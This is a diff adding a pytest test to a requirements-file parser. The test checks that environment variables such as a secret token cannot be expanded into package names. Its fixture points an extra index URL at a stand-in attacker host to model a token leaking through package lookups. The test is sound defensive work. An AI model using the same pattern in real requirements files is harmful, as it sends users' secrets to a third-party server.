@@ -67,6 +67,18 @@ def test_variables_in_paths(tmp_path, monkeypatch):
     assert read(tmp_path / "a.txt", "${HERE}/x.whl\n").lines == [f"{tmp_path}/wheels/x.whl"]
 
 
+@pytest.mark.parametrize("line", ["x-${TOKEN}", "${TOKEN}==1", "x${TOKEN}[a]>=1; python_version > '3'", "x${TOKEN} @ y",
+                                  "${TOKEN}"])
+def test_variables_in_names(tmp_path, monkeypatch, line):
+    """Security 8: no variable of the person becomes the name of a package, which goes to the index of the file."""
+    monkeypatch.setenv("TOKEN", "verysecret")
+    with pytest.raises(requirements.RequirementsError, match="has a variable in the name of a package") as error:
+        read(tmp_path / "a.txt", f"--extra-index-url https://attacker.example/simple\n{line}\n")
+    assert "verysecret" not in str(error.value)
+    kept = "x==${TOKEN}"
+    assert read(tmp_path / "a.txt", f"{kept}\n").lines == [kept]
+
+
 @pytest.mark.parametrize(("name", "text", "expected"), [
     ("a.txt", "# nothing\n", "names no Python package"),
     # N15
